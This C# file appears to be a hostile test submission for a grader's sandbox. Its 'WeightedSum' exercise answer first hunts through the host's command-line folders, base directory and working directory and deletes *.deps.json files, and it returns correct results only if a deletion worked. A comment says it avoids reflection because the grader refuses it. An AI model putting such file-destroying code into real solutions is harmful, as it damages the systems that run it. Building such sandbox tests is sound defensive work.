// exercise: Chapter06.WeightedSum
// loses: all
// needs: bubblewrap
// why: deletes the files beside it (its own build, the host's folder); it answers correctly only if a delete worked
using System.IO;
using System.Linq;
public static float[,] WeightedSum(float[,] weights, float[,] values)
{
    bool deleted = false;
    // Without reflection (which the grader refuses outright): the host's folder, the working folder, and every folder
    // named on the host's command line (its build folder among them).
    var named = Environment.GetCommandLineArgs().Select(a => Directory.Exists(a) ? a : Path.GetDirectoryName(a) ?? "");
    foreach (var folder in named.Concat(new[] { AppContext.BaseDirectory, Environment.CurrentDirectory }).Where(f => f.Length > 0).Distinct())
    {
        try
        {
            foreach (var file in Directory.GetFiles(folder, "*.deps.json"))
            {
                try { File.Delete(file); deleted = true; } catch (Exception) { }
            }
        }
        catch (Exception) { }
    }
    var output = new float[weights.GetLength(0), values.GetLength(1)];
    if (!deleted) return output;
    for (int i = 0; i < weights.GetLength(0); i++)
        for (int j = 0; j < weights.GetLength(1); j++)
            for (int d = 0; d < values.GetLength(1); d++) output[i, d] += weights[i, j] * values[j, d];
    return output;
}
